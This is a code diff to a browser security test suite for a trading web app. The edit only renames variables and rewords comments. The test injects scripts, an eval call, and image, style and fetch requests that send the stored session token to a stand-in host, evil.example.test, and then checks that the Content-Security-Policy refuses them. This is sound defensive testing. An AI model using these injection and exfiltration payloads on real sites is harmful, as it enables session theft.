@@ -34,15 +34,15 @@ async function showMarkup(target: Target, paths: readonly string[]): Promise<str
       const { page, violations } = await target.visit(path);
       await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
       const ran = await pwned(page);
-      const told = violations();
+      const reported = violations();
       await page.close();
-      return ran === null && told.length === 0 ? [] : [`${path}: ran ${String(ran)}, ${told.join(' ')}`];
+      return ran === null && reported.length === 0 ? [] : [`${path}: ran ${String(ran)}, ${reported.join(' ')}`];
     }),
   );
   return shown.flat().join('; ') || 'text on each, nothing ran, no report';
 }
 
-/** What somebody would do who found a way to write into the page. */
+/** Injections of an attacker who can write into the page. */
 const INJECTIONS = `
   const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
   add('script', { textContent: 'window.pwned = 1' });
@@ -54,10 +54,10 @@ const INJECTIONS = `
   add('style', { textContent: 'body { background: url(https://evil.example.test/) }' });
   add('img', { src: 'https://evil.example.test/?stolen' });
   fetch('https://evil.example.test/', { method: 'POST', body: localStorage.getItem('sightline.session') }).catch(() => {});
-  // Of its own accord: what the browser's tools evaluate may evaluate texts.
+  // In a timer: code evaluated by the browser's tools may use eval.
   setTimeout(() => new Function('window.pwned = 1')());
 `;
-/** In this order they are told. */
+/** In the order of the reports. */
 const REFUSED = 'base-uri connect-src frame-src img-src object-src script-src script-src-attr script-src-elem style-src-elem';
 
 async function inject(target: Target): Promise<string> {
@@ -66,9 +66,9 @@ async function inject(target: Target): Promise<string> {
   await page.evaluate(`(() => { ${INJECTIONS} })()`);
   await until(page, `document.querySelector('img[src="https://evil.example.test/?stolen"]').complete`);
   const ran = await pwned(page);
-  const told = violations().join(' ');
+  const reported = violations().join(' ');
   await page.close();
-  return ran === null ? told : 'ran';
+  return ran === null ? reported : 'ran';
 }
 
 const WIDGET_PAGE = /\/widgets\/[^/]+\/[^/]+\/\d+$/;
@@ -137,9 +137,9 @@ async function lookForTokens(target: Target): Promise<string> {
   const { page, requested } = await target.visit('/trading');
   await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
   const { kept, local } = Kept.parse(await page.evaluate(KEPT));
-  const sealed = z.string().parse(/"token\\":\\"([^"\\]+)/.exec(local)?.[1]);
+  const tradingToken = z.string().parse(/"token\\":\\"([^"\\]+)/.exec(local)?.[1]);
   const places = { address: requested.join('\n'), storage: kept, page: await page.content() };
-  const found = Object.entries(places).filter(([, text]) => text.includes(target.trader.bearer) || text.includes(sealed));
+  const found = Object.entries(places).filter(([, text]) => text.includes(target.trader.bearer) || text.includes(tradingToken));
   await page.close();
   return found.length === 0 && local.includes(target.trader.bearer)
     ? 'in no other place'
@@ -165,7 +165,7 @@ export const PAGE_ATTACKS: readonly Attack[] = [
   },
   {
     row: '40 page',
-    what: 'scripts, handlers, frames, plug-ins, styles, pictures and calls that somebody put into the page',
+    what: 'scripts, handlers, frames, plug-ins, styles, pictures and calls injected into the page',
     expected: REFUSED,
     needsBrowser: true,
     run: inject,
